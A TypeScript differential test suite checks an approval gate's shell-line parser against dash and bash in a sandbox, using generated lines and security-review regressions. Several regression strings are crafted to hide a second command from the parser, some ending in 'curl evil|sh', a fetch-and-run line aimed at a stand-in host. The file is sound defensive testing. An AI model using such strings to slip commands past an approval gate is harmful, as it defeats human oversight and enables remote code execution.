import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join, posix } from 'node:path';
import fc from 'fast-check';
import { recordAttackSuite } from '../../libs/testing/src/attack-suite-report';
import { baseName, effectiveCommands } from '../../apps/approval-service/src/rules/command-match';
import {
  analyzeCommand,
  initShellParser,
  type Redirection,
} from '../../apps/approval-service/src/rules/shell-analysis';

const execFileAsync = promisify(execFile);

/**
 * The gate's reading of a shell line against what dash and bash actually run. Lines come from a
 * seeded grammar (quoting, every expansion form, here-docs, CR/LF/unicode whitespace, comments,
 * continuations, redirections, control flow) plus the cases the security review reported. Every
 * line the gate reads as simple commands — the only lines a rule can allow — runs under dash and
 * under bash in a bubblewrap sandbox with no network, an empty working directory and a PATH of
 * argv-logging shims (the grammar's own command names are also shell functions that log; builtins
 * such as `echo`, `test`, `read` run for real, so code they run shows up as a logged program). A
 * line passes when every program or function the shell ran is one the gate saw, with the same argv.
 */

const SEED = Number(process.env.SKALD_SHELL_DIFF_SEED ?? process.env.FC_SEED ?? 17_2026);
const LINES = Number(process.env.SKALD_SHELL_DIFF_LINES ?? 18_000);
const OPTION_LINES = Number(process.env.SKALD_SHELL_DIFF_OPTION_LINES ?? 1_000);
const NAMES = [
  ...['c1', 'c2', 'c3', 'rm', 'git', 'make', 'curl', 'sh'],
  ...['echo', 'cd', 'true', 'printf', 'test', 'kill', 'read'],
];
/**
 * Names that are also logging functions (faster than a shim, and `kill` so that no generated line
 * signals the sandbox). The other builtins run for real: what they run is what the shims log.
 */
const FUNCTIONS = ['c1', 'c2', 'c3', 'rm', 'git', 'make', 'curl', 'kill'];
const LOGGING = new Set([...FUNCTIONS, 'sh']);

const REGRESSIONS = [
  "echo ${U:-'}'}; curl evil|sh #'",
  'git status\r#; curl evil|sh',
  'cat <<EOF\r\nhi\nEOF\r\ncurl evil\nEOF',
  'echo $[1+2]; curl x',
  '((x=1)); curl x',
  'rm -rf x; : $((0))',
  'ls\u00a0-la',
  'ls\u000b-la',
  'ls\f-la',
  'ls\u2028-la',
  '\ufeffls -la',
  'c1 a\\\nb',
  'c1 \\\n -x',
  'c1 a#b #c',
  'c1 \'a\'"b"c "d\\"e"',
  'c1 >f 2>&1 <f2',
  'c1 &>f c2',
  'c1 |& c2',
  "c1 $'\\x41'",
  'c1 \\c2 "c3"',
  'command c1 -x; exec c2 y',
  'c1\rc2',
  'c1 x\r',
  "let 'x[$(c2 let)]'",
  "declare -i 'x=y[$(c2 declare)]'",
  "unset 'x[$(c2 unset)]'",
  "shift 'x[$(c2 shift)]'",
  "getopts a 'x[$(c2 getopts)]'",
  "wait -n 'x[$(c2 wait)]'",
  "ulimit 'x[$(c2 ulimit)]'",
  "exit 'x[$(c2 exit)]'",
  "return 'x[$(c2 return)]'",
  "mapfile 'x[$(c2 mapfile)]'",
  'alias c1=c2\nc1 alias',
  'hash -p /s/c2 c1\nc1 hash',
  'enable -n echo\necho enable',
];

const ident = fc.constantFrom('X', 'U', 'PATH', 'IFS', 'a_1');
const plainChars = fc.constantFrom(...'abcxyz019-._/=:,+%@'.split(''));
const oddChars = fc.constantFrom(
  ...[
    '*',
    '?',
    '[',
    ']',
    '~',
    '{',
    '}',
    '#',
    '!',
    '^',
    '\\',
    '$',
    '`',
    '(',
    ')',
    ';',
    '&',
    '|',
    '<',
    '>',
    '\r',
    '\n',
    '\t',
  ],
  ...['\u00a0', '\u000b', '\f', '\u2028', '\ufeff', '\u3000', 'é', ' '],
);
const literal = fc.stringMatching(/^[a-z0-9._/=:,+%@-]{1,6}$/);
const cmdName = fc.constantFrom(...NAMES, '/s/c1', '\\c1', '"c2"', "'c3'", 'c1=', 'if', '!', '{', 'time');
/** A piece of a word: mostly literal, sometimes quoted, sometimes an expansion or an odd character. */
const piece: fc.Arbitrary<string> = fc.oneof(
  { weight: 30, arbitrary: literal },
  { weight: 3, arbitrary: literal.map((s) => `'${s} ${s}'`) },
  { weight: 3, arbitrary: literal.map((s) => `"${s} x"`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('"a\\"b"', '"a\\\\b"', '"a\\$b"', '"a\\`b"', "'a\"b'", '"a\'b"', '"x\\\ny"'),
  },
  { weight: 1, arbitrary: plainChars.map((c) => `\\${c}`) },
  { weight: 1, arbitrary: oddChars },
  { weight: 1, arbitrary: oddChars.map((c) => `'${c}'`) },
  { weight: 1, arbitrary: oddChars.map((c) => `"${c}"`) },
  {
    weight: 2,
    arbitrary: fc.oneof(
      ident.map((v) => `$${v}`),
      ident.map((v) => `\${${v}}`),
      ident.map((v) => `\${${v}:-c2}`),
      ident.map((v) => `\${${v}:-'}'}`),
      ident.map((v) => `"\${${v}#x}"`),
      fc.constant('$(c2 x)'),
      fc.constant('`c2 y`'),
      fc.constant('"$(c2)"'),
      fc.constant('$((1+2))'),
      fc.constant('$[1+2]'),
      fc.constant('<(c2)'),
      fc.constant("$'c\\x32'"),
      fc.constant('$"x"'),
      fc.constant('~'),
      fc.constant('{a,b}'),
      fc.constant('*'),
      fc.constant('$1'),
      fc.constant('$@'),
      fc.constantFrom('$$', '$?', '$#', '$-', '$!', '$0', '${#X}', '${X/a/c2}', '${!X}', '${X[0]}', '${X:=c2}', '"$*"'),
      fc.constantFrom('?', '[ab]', 'x*', '@(a)', '!(x)', '~root', 'a{1..2}', '$(<f)', '`c2 \\`c3\\``'),
    ),
  },
);
const word = fc.array(piece, { minLength: 1, maxLength: 3 }).map((p) => p.join(''));
const redirection = fc.oneof(
  literal.map((f) => `>${f}`),
  literal.map((f) => `>> ${f}`),
  literal.map((f) => `< ${f}`),
  literal.map((f) => `2>${f}`),
  fc.constantFrom('2>&1', '>&2', '>/dev/null', '&>f', '>&f', '<>f', '>|f', '<<<x', '3>&-'),
  fc.constantFrom(
    "<<'EOF'\nbody $(c2)\nEOF\n",
    '<<EOF\nbody $(c2)\nEOF\n',
    '<<EOF\r\nx\nEOF\r\nc2\nEOF\n',
    '<<-EOF\n\tx\n\tEOF\n',
  ),
);
const blank = fc.oneof(
  { weight: 60, arbitrary: fc.constant(' ') },
  { weight: 2, arbitrary: fc.constantFrom('  ', '\t', ' \\\n') },
  { weight: 1, arbitrary: fc.constantFrom('\r', '\u00a0', '\u000b', '\f', '\u2028', '\ufeff', '\\\n', '\n') },
);
const simpleCommand = fc
  .tuple(
    fc.option(
      ident.map((v) => `${v}=x `),
      { freq: 10 },
    ),
    cmdName,
    fc.array(fc.tuple(blank, fc.oneof({ weight: 6, arbitrary: word }, { weight: 1, arbitrary: redirection })), {
      maxLength: 4,
    }),
    fc.option(fc.constantFrom(' # note', ' #; c2', '#c2'), { freq: 8 }),
  )
  .map(
    ([assign, name, args, comment]) => `${assign ?? ''}${name}${args.map(([b, w]) => b + w).join('')}${comment ?? ''}`,
  );
const compound = fc.oneof(
  { weight: 20, arbitrary: simpleCommand },
  {
    weight: 1,
    arbitrary: fc.oneof(
      simpleCommand.map((c) => `(${c})`),
      simpleCommand.map((c) => `{ ${c}; }`),
      simpleCommand.map((c) => `if ${c}; then c2; fi`),
      simpleCommand.map((c) => `for i in a b; do ${c}; done`),
      simpleCommand.map((c) => `f() { ${c}; }; f`),
      simpleCommand.map((c) => `! ${c}`),
      simpleCommand.map((c) => `case x in x) ${c};; esac`),
    ),
  },
);
const separator = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(' && ', ' || ', '; ', ' | ', '\n', ';') },
  { weight: 1, arbitrary: fc.constantFrom(' & ', ' |& ', ';;', ' \r\n', '\r', ' ;\n') },
);
const line = fc
  .tuple(compound, fc.array(fc.tuple(separator, compound), { maxLength: 3 }))
  .map(([first, rest]) => first + rest.map(([s, c]) => s + c).join(''));

// ------------------------------------------------ redirection forms, from the shells' grammar

/**
 * Every redirection operator dash and bash know: POSIX (XCU 2.10.2: io_file and io_here) and
 * bash's own. tree-sitter-bash's operators must all be here (checked below against its grammar).
 */
const REDIRECT_OPERATORS = {
  posix: ['<', '>', '>>', '>|', '<>', '<&', '>&', '<<', '<<-'],
  bash: ['<<<', '&>', '&>>'],
} as const;
const ALL_OPERATORS: readonly string[] = [...REDIRECT_OPERATORS.posix, ...REDIRECT_OPERATORS.bash];
/**
 * What may stand in front of an operator: nothing, a descriptor glued (one digit, several digits,
 * a leading zero, past int, bash's `{name}`), quoted or escaped digits, or a digit word spaced off.
 */
const DESCRIPTOR_PREFIXES = [
  ...['', '0', '1', '2', '3', '9', '10', '12', '255', '01', '007', '99999999999'],
  ...['{v}', '{v', "'0'", '"1"', '\\2', '0 ', '2 ', 'x0', '0x'],
];
/** What follows an operator, by the operator's kind (a file, a descriptor to copy, a here word). */
function operatorTargets(op: string): string[] {
  if (op === '<&' || op === '>&') return ['0', '1', '2', '9', '12', '-', '1-', 'f', '/dev/null'];
  if (op === '<<' || op === '<<-') return ['EOF\nbody\nEOF\n', "'EOF'\n\tbody\n\tEOF\n"];
  if (op === '<<<') return ['x', "'a b'"];
  return ['f', '/dev/null', 'g'];
}
/** Where a form sits: after the subcommand, between the program and the subcommand, first. */
const FORM_PLACES = [
  (r: string) => `git push --force ${r}`,
  (r: string) => `git ${r} push --force`,
  (r: string) => `${r} c1 a`,
  (r: string) => `c1 a${r} b`,
];
/** Every (descriptor prefix, operator, blank, target) form of the grammar, each in one place. */
function redirectionForms(): string[] {
  const out: string[] = [];
  for (const fd of DESCRIPTOR_PREFIXES)
    for (const op of ALL_OPERATORS)
      for (const gap of ['', ' '])
        for (const target of operatorTargets(op)) {
          // a here-document's body starts on the next line, so the form ends the line
          const form = `${fd}${op}${gap}${target}`;
          out.push(form);
        }
  return out;
}
function placeForm(form: string, i: number): string {
  if (form.includes('\n')) {
    const nl = form.indexOf('\n');
    return `git push ${form.slice(0, nl)} --force${form.slice(nl)}`;
  }
  return FORM_PLACES[i % FORM_PLACES.length](form);
}

/** Options with a value before a subcommand (`git -C dir push`, `make -f x deploy`), spaced and glued. */
const optionWithValue = fc.oneof(
  fc
    .constant('git')
    .chain((p) =>
      fc.tuple(
        fc.constant(p),
        fc.array(
          fc.constantFrom('-C d', '-Cd', '-C .', '-c k=v', '-ck=v', '--git-dir=x', '--work-tree x', '-p', '--no-pager'),
          { maxLength: 3 },
        ),
        fc.constantFrom('push', 'push --force', 'status', 'config x y'),
      ),
    ),
  fc.constant('make').chain((p) =>
    fc.tuple(
      fc.constant(p),
      fc.array(fc.constantFrom('-C d', '-Cd', '-f x', '-fx', '--file=x', '--file x', '-j 2', '-k', '-e'), {
        maxLength: 3,
      }),
      fc.constantFrom('deploy', 'all', 'X=1 deploy'),
    ),
  ),
);
const optionLine = fc
  .tuple(optionWithValue, fc.option(fc.constantFrom(...redirectionForms()), { freq: 3 }))
  .map(([[p, opts, sub], r]) => [p, ...opts, ...(r !== null && !r.includes('\n') ? [r] : []), sub].join(' '));

function quote(s: string): string {
  return `'${s.replace(/'/g, "'\\''")}'`;
}

/**
 * Where the loggers write, inside the sandbox: a directory no generated line can name (its name is
 * random, it is outside the working directory), one file per logging process (`<line>.<pid>`).
 *
 * One file per process because bash's `printf` is line-buffered (bash sets stdout to line
 * buffering): a record of several lines leaves bash in several write(2) calls, so records of the
 * members of a pipeline, written at once to one file, interleaved under load and the parser read
 * lengths out of another record (five "empty arguments" for a pipeline holding U+3000, one run in
 * three of the unit tier). dash's printf writes a record in one call, which is why only bash did it.
 */
const LOG_DIR = `/gate-log-${randomBytes(6).toString('hex')}`;
/** A record: `R<id> <argc>` then `<bytes>:<arg>` per argument (lengths in bytes, LC_ALL=C). */
const LOG_FN = 'r="R$ID $#"; for a do r="$r\n${#a}:$a"; done; command printf "%s\\n" "$r"';
/** The process id of the shell running a logging function (a subshell's `$$` is its parent's). */
const OWN_PID = 'command read -r gate_st </proc/self/stat; gate_pid=${gate_st%% *}';
/**
 * For a line with redirections (GATE_PROBE set), the logger adds the process's descriptors 0-9 as
 * a last argument `FD` + `ls -l /proc/<pid>/fd` lines: what the program got, to compare with the
 * gate's reading. `ls` runs in a subshell that alone opens the listing file (dash opens a
 * command's redirections in the shell itself before forking), and no command substitution's pipe
 * is open while it lists.
 */
const probe = (pid: string): string =>
  `if [ -n "$GATE_PROBE" ]; then (exec /usr/bin/ls -l /proc/${pid}/fd/ >/tmp/gate-fd.${pid} 2>/dev/null); ` +
  `gate_fd=FD; while IFS= command read -r gate_l; do gate_fd="$gate_fd\n$gate_l"; done </tmp/gate-fd.${pid}; ` +
  `set -- "$@" "$gate_fd"; fi`;

function shim(name: string): string {
  return `#!/bin/sh\nset -- "${name}" "$@"\n${probe('$$')}\n{ ${LOG_FN}; } >>"${LOG_DIR}/$ID.$$"\n`;
}

function driver(lines: readonly string[]): string {
  const out = [
    'export LC_ALL=C LANG=C ID=0 GATE_PROBE=',
    `gate_log() { ${OWN_PID}; ${probe('$gate_pid')}; { ${LOG_FN}; } >>"${LOG_DIR}/$ID.$gate_pid"; }`,
  ];
  for (const f of FUNCTIONS) out.push(`${f}() { gate_log ${f} "$@"; }`);
  lines.forEach((l, i) =>
    out.push(`ID=${i}; GATE_PROBE=${/[<>]/.test(l) ? 1 : ''}; ( eval ${quote(l)} ) </dev/null >/dev/null 2>&1`),
  );
  out.push('exit 0');
  return `${out.join('\n')}\n`;
}

/**
 * The records of one log file, read strictly: a record that does not parse is an error of the
 * harness (named, with the file and byte), never an argv to compare.
 */
function parseRecords(buf: Buffer, file: string, id: number): string[][] {
  const out: string[][] = [];
  let at = 0;
  const fail = (what: string): never => {
    throw new Error(`harness log ${file} at byte ${at}: ${what}`);
  };
  while (at < buf.length) {
    const nl = buf.indexOf(10, at);
    if (nl < 0) fail('a record header without its newline');
    const head = /^R(\d+) (\d+)$/.exec(buf.subarray(at, nl).toString('latin1'));
    if (!head || Number(head[1]) !== id) fail('not a record header of this line');
    at = nl + 1;
    const argv: string[] = [];
    for (let i = 0; i < Number(head?.[2]); i++) {
      const colon = buf.indexOf(58, at);
      const len = colon < 0 ? '' : buf.subarray(at, colon).toString('latin1');
      if (!/^\d{1,7}$/.test(len)) fail('an argument without its byte length');
      const endArg = colon + 1 + Number(len);
      if (buf[endArg] !== 10) fail('an argument not ended by a newline where its length says');
      argv.push(buf.subarray(colon + 1, endArg).toString('utf8'));
      at = endArg + 1;
    }
    out.push(argv);
  }
  return out;
}

/** Every record of a run, by line number; the records of one line in no particular order. */
function readLogs(dir: string): Map<number, string[][]> {
  const out = new Map<number, string[][]>();
  for (const file of readdirSync(dir).sort()) {
    const m = /^(\d+)\.(\d+)$/.exec(file);
    if (!m) throw new Error(`harness log: unexpected file ${file}`);
    const id = Number(m[1]);
    out.set(id, [...(out.get(id) ?? []), ...parseRecords(readFileSync(join(dir, file)), file, id)]);
  }
  return out;
}

/** Writes the argv-logging shims for every grammar name into `dir/s`. */
function writeShims(dir: string): void {
  mkdirSync(join(dir, 's'));
  // a shim logs its own name first, like the functions do
  for (const n of NAMES) {
    const p = join(dir, 's', n);
    writeFileSync(p, shim(n));
    chmodSync(p, 0o755);
  }
}

/** Bound of one sandboxed shell run over all lines (about 15 s unloaded; 60-80 s at load 60 on 2 cores). */
const RUN_TIMEOUT_MS = 240_000;

async function runUnder(
  shell: 'dash' | 'bash',
  dir: string,
  lines: readonly string[],
  tag: string = shell,
): Promise<Map<number, string[][]>> {
  const work = join(dir, tag);
  mkdirSync(join(work, 'log'), { recursive: true });
  writeFileSync(join(work, 'driver.sh'), driver(lines));
  try {
    await execFileAsync(
      'bwrap',
      [
        ...['--unshare-all', '--die-with-parent', '--new-session', '--clearenv', '--proc', '/proc'],
        ...['--ro-bind', '/usr/lib', '/usr/lib', '--symlink', 'usr/lib', '/lib'],
        ...['--ro-bind-try', '/usr/lib64', '/usr/lib64', '--symlink', 'usr/lib64', '/lib64'],
        ...['--ro-bind', '/usr/bin/dash', '/usr/bin/dash', '--ro-bind', '/usr/bin/dash', '/usr/bin/sh'],
        ...['--ro-bind', '/usr/bin/bash', '/usr/bin/bash', '--symlink', 'usr/bin', '/bin'],
        ...['--ro-bind', '/usr/bin/ls', '/usr/bin/ls'],
        ...['--ro-bind', join(dir, 's'), '/s', '--bind', work, '/w', '--bind', join(work, 'log'), LOG_DIR],
        ...['--tmpfs', '/tmp', '--dir', '/w/cwd', '--dev', '/dev', '--chdir', '/w/cwd'],
        // the shells start in the C locale (lengths in bytes), whatever the test process has
        ...['--setenv', 'PATH', '/s', '--setenv', 'HOME', '/w/cwd', '--setenv', 'LC_ALL', 'C', '--setenv', 'LANG', 'C'],
        `/usr/bin/${shell}`,
        '/w/driver.sh',
      ],
      { timeout: RUN_TIMEOUT_MS, maxBuffer: 1 << 24 },
    );
  } catch (e) {
    const err = e as { killed?: boolean; signal?: string; code?: number | string; stderr?: string };
    throw new Error(
      `the ${shell} run of ${lines.length} lines ${err.killed ? `was stopped after ${RUN_TIMEOUT_MS} ms` : `failed (${String(err.code ?? err.signal)})`}: ${String(err.stderr ?? e).slice(0, 400)}`,
    );
  }
  return readLogs(join(work, 'log'));
}

type FdUse = { path: string; mode: string } | 'IN' | 'OUT' | 'ERR';
/** Descriptors 0-9 the gate's reading gives a command: the driver's /dev/null (or a pipe), then its redirections in order. */
function expectedFds(redirections: readonly Redirection[]): Map<number, FdUse> | null {
  const t = new Map<number, FdUse>([
    [0, 'IN'],
    [1, 'OUT'],
    [2, 'ERR'],
  ]);
  for (const r of redirections) {
    const fd = Number(r.fd ?? (r.op.startsWith('<') ? 0 : 1));
    if (r.op === '>&' || r.op === '<&') {
      const from = t.get(Number(r.target));
      if (!from) return null; // a copy of a closed descriptor: the command does not run
      t.set(fd, from);
    } else t.set(fd, { path: r.target, mode: r.op === '<' ? 'r' : 'w' });
  }
  return t;
}
/** `ls -l /proc/<pid>/fd` lines (after the `FD` marker): descriptor -> target and r/w. */
function listedFds(listing: string): Map<number, { path: string; mode: string }> {
  const out = new Map<number, { path: string; mode: string }>();
  for (const l of listing.split('\n').slice(1)) {
    const m = /^l([r-])([w-])\S* .* (\d+) -> (.*)$/.exec(l);
    if (!m) continue; // "total 0"
    if (Number(m[3]) > 9) continue; // the shells' own saved and script descriptors sit at 10 and up
    out.set(Number(m[3]), { path: m[4], mode: `${m[1] === 'r' ? 'r' : ''}${m[2] === 'w' ? 'w' : ''}` });
  }
  return out;
}
function fdAgrees(want: FdUse | undefined, got: { path: string; mode: string } | undefined): boolean {
  if (!want || !got) return !want && !got;
  const devNullOrPipe = got.path === '/dev/null' || got.path.startsWith('pipe:');
  if (want === 'IN') return got.mode === 'r' && devNullOrPipe;
  if (want === 'OUT') return got.mode === 'w' && devNullOrPipe;
  if (want === 'ERR') return got.mode === 'w' && got.path === '/dev/null';
  // a relative target lands under the working directory, which a `cd` earlier on the line moves
  const at = posix.resolve('/w/cwd', want.path);
  const same = got.path === at || (!want.path.startsWith('/') && basename(got.path) === basename(at));
  return same && got.mode === want.mode;
}
/** Why a program's descriptors differ from the gate's reading, or null. */
function fdDivergence(redirections: readonly Redirection[], listing: string): string | null {
  const want = expectedFds(redirections);
  if (!want) return null;
  const got = listedFds(listing);
  for (let fd = 0; fd <= 9; fd++)
    if (!fdAgrees(want.get(fd), got.get(fd)))
      return `descriptor ${fd}: ran with ${JSON.stringify(got.get(fd) ?? 'closed')}, the gate read ${JSON.stringify(want.get(fd) ?? 'closed')}`;
  return null;
}

/**
 * The gate's answer for a line, read again when only its time budget said no: under load
 * (PARSE_BUDGET_MS is wall clock) the set of simple lines of one seed otherwise changes from run
 * to run. The gate keeps its last answer, so another line is read in between.
 */
function analyzeSteadily(l: string): { analysis: ReturnType<typeof analyzeCommand>; retries: number } {
  let analysis = analyzeCommand(l);
  let retries = 0;
  while (analysis.kind === 'needs_human' && /took longer than/.test(analysis.reason) && retries < 20) {
    analyzeCommand('true');
    analysis = analyzeCommand(l);
    retries++;
  }
  return { analysis, retries };
}

describe('approval gate shell reading vs dash and bash (differential)', () => {
  beforeAll(() => initShellParser(), 30_000);

  it("knows every redirection operator of tree-sitter-bash (the forms are grown from the shells' grammar)", () => {
    const grammar = JSON.parse(
      readFileSync(join(dirname(require.resolve('tree-sitter-bash/package.json')), 'src/grammar.json'), 'utf8'),
    ) as { rules: Record<string, unknown> };
    const ops = new Set<string>();
    const walk = (n: unknown): void => {
      if (Array.isArray(n)) n.forEach(walk);
      else if (n && typeof n === 'object') {
        const o = n as { type?: string; value?: unknown };
        if (o.type === 'STRING' && typeof o.value === 'string' && /[<>]/.test(o.value)) ops.add(o.value);
        Object.values(o).forEach(walk);
      }
    };
    for (const r of ['file_redirect', 'heredoc_redirect', 'herestring_redirect']) walk(grammar.rules[r]);
    expect(ops.size).toBeGreaterThan(8);
    // `<&-` and `>&-` are `<&`/`>&` with the target `-` to the shells
    const missing = [...ops].filter((o) => !ALL_OPERATORS.includes(o.replace(/-$/, '')) && !ALL_OPERATORS.includes(o));
    expect(missing).toEqual([]);
  });

  it('the harness logs the same argv for the same line run twice at once (bash and dash)', async () => {
    // pipelines whose members log multi-line records at the same moment, with U+3000 and newlines
    const lines = Array.from(
      { length: 120 },
      (_, i) => `c1 "\u3000" '${i}' a | c2 "x\u3000y" 'l1\nl2' | c3 '\u3000' "" b | git '${i}\u3000' -C d push`,
    );
    const want = (i: number): string[] =>
      [
        ['c1', '\u3000', `${i}`, 'a'],
        ['c2', 'x\u3000y', 'l1\nl2'],
        ['c3', '\u3000', '', 'b'],
        ['git', `${i}\u3000`, '-C', 'd', 'push'],
      ]
        .map((a) => JSON.stringify(a))
        .sort();
    const dir = mkdtempSync(join(tmpdir(), 'skald-shell-diff-self-'));
    try {
      writeShims(dir);
      const runs = await Promise.all(
        (['dash', 'bash'] as const).flatMap((shell) =>
          ['a', 'b'].map(async (n) => [shell, await runUnder(shell, dir, lines, `${shell}-${n}`)] as const),
        ),
      );
      for (const [shell, ran] of runs)
        lines.forEach((_, i) => {
          const got = (ran.get(i) ?? []).map((a) => JSON.stringify(a)).sort();
          expect([shell, i, got]).toEqual([shell, i, want(i)]);
        });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);

  it('every program a shell runs for a line the gate reads as simple commands is one the gate saw', async () => {
    const started = performance.now();
    const generated = fc.sample(line, { seed: SEED, numRuns: LINES });
    const forms = redirectionForms();
    const formLines = forms.map(placeForm);
    const optionLines = fc.sample(optionLine, { seed: SEED, numRuns: OPTION_LINES });
    const all = [...REGRESSIONS, ...generated, ...formLines, ...optionLines];
    const simple: Array<{ line: string; seen: string[][]; redirs: Redirection[][]; form: boolean }> = [];
    const reasons = new Map<string, number>();
    let budgetRetries = 0;
    let overBudget = 0;
    const formSet = new Set(formLines);
    for (const l of all) {
      const { analysis: a, retries } = analyzeSteadily(l);
      budgetRetries += retries;
      if (a.kind === 'simple') {
        const eff = a.commands.flatMap((c) => effectiveCommands(c.argv).map((argv) => [argv, c.redirections] as const));
        simple.push({ line: l, seen: eff.map((e) => e[0]), redirs: eff.map((e) => e[1]), form: formSet.has(l) });
      } else if (/took longer than/.test(a.reason)) overBudget++;
      else if (process.env.SKALD_SHELL_DIFF_REASONS)
        reasons.set(a.reason.replace(/".*"/, '…'), (reasons.get(a.reason.replace(/".*"/, '…')) ?? 0) + 1);
    }
    // a canary: what a naive reader would see for a substitution; the harness must flag it
    const CANARY = 'c1 $(c2 canary)';
    simple.push({ line: CANARY, seen: [['c1', '$(c2 canary)']], redirs: [[]], form: false });
    // and a reading that misses a redirection: the descriptor comparison must flag it
    const FD_CANARY = 'c1 canary 2>f';
    simple.push({ line: FD_CANARY, seen: [['c1', 'canary']], redirs: [[]], form: false });
    const dir = mkdtempSync(join(tmpdir(), 'skald-shell-diff-'));
    try {
      writeShims(dir);
      const lines = simple.map((s) => s.line);
      const divergences: string[] = [];
      let executed = 0;
      let logged = 0;
      let loggable = 0;
      let canaryCaught = 0;
      let fdChecked = 0;
      let fdCanaryCaught = 0;
      const runs = await Promise.all(
        (['dash', 'bash'] as const).map(async (shell) => [shell, await runUnder(shell, dir, lines)] as const),
      );
      for (const [shell, ran] of runs) {
        simple.forEach((s, i) => {
          const programs = ran.get(i) ?? [];
          if (s.line !== CANARY && s.line !== FD_CANARY) executed += 1;
          if (LOGGING.has(baseName(s.seen[0][0]))) {
            loggable += 1;
            if (programs.length > 0) logged += 1;
          }
          for (const logged of programs) {
            const probed = /[<>]/.test(s.line);
            const listing = probed ? logged[logged.length - 1] : '';
            if (probed && !listing.startsWith('FD\n'))
              throw new Error(`harness: no descriptor listing for ${JSON.stringify(s.line)}`);
            const argv = probed ? logged.slice(0, -1) : logged;
            const key = JSON.stringify([baseName(argv[0]), ...argv.slice(1)]);
            // the commands of the line the gate read with this argv (`c1; c1 >f` has two)
            const same = s.seen.flatMap((g, j) => (JSON.stringify([baseName(g[0]), ...g.slice(1)]) === key ? [j] : []));
            const ok = same.length > 0;
            if (ok && probed) {
              fdChecked += 1;
              const whys = same.map((j) => fdDivergence(s.redirs[j], listing));
              if (!whys.includes(null) && s.line === FD_CANARY) fdCanaryCaught += 1;
              else if (!whys.includes(null))
                divergences.push(`${shell} ran ${key} for ${JSON.stringify(s.line)}: ${whys[0]}`);
            }
            if (!ok && s.line === CANARY) canaryCaught += 1;
            else if (!ok)
              divergences.push(
                `${shell} ran ${key} for ${JSON.stringify(s.line)}; the gate saw ${JSON.stringify(s.seen)}`,
              );
          }
        });
      }
      const seconds = ((performance.now() - started) / 1000).toFixed(1);
      const report = {
        shell_lines: all.length,
        simple_lines: simple.length - 2,
        shell_runs: executed,
        redirection_forms: forms.length,
        redirection_forms_simple: simple.filter((s) => s.form).length,
        option_lines: optionLines.length,
        descriptor_tables_compared: fdChecked,
        divergences: divergences.length,
      };
      if (reasons.size > 0) console.log([...reasons].sort((a, b) => b[1] - a[1]).slice(0, 25));
      console.log(
        `shell differential (seed ${SEED}, replay with FC_SEED=${SEED}; ${seconds} s; ` +
          `${budgetRetries} re-reads after the parse budget, ${overBudget} still over): ${JSON.stringify(report)}`,
      );
      recordAttackSuite('shell', 'differential', report);
      expect(divergences.slice(0, 20)).toEqual([]);
      expect(canaryCaught).toBeGreaterThanOrEqual(2); // dash and bash each ran c2 and c1 with c2's output
      expect(simple.length).toBeGreaterThanOrEqual(5000);
      expect(report.redirection_forms_simple).toBeGreaterThan(100); // the forms both shells read alike do run
      expect(fdChecked).toBeGreaterThan(500); // and their descriptors are compared
      expect(fdCanaryCaught).toBe(2); // dash and bash each gave c1 descriptor 2 = f, which the planted reading missed
      // the harness sees what runs: a line starting with a logging name logs (unless the shell refused it)
      expect(logged).toBeGreaterThan(loggable * 0.9);
    } finally {
      if (!process.env.SKALD_SHELL_DIFF_KEEP) rmSync(dir, { recursive: true, force: true });
    }
  }, 420_000);
});
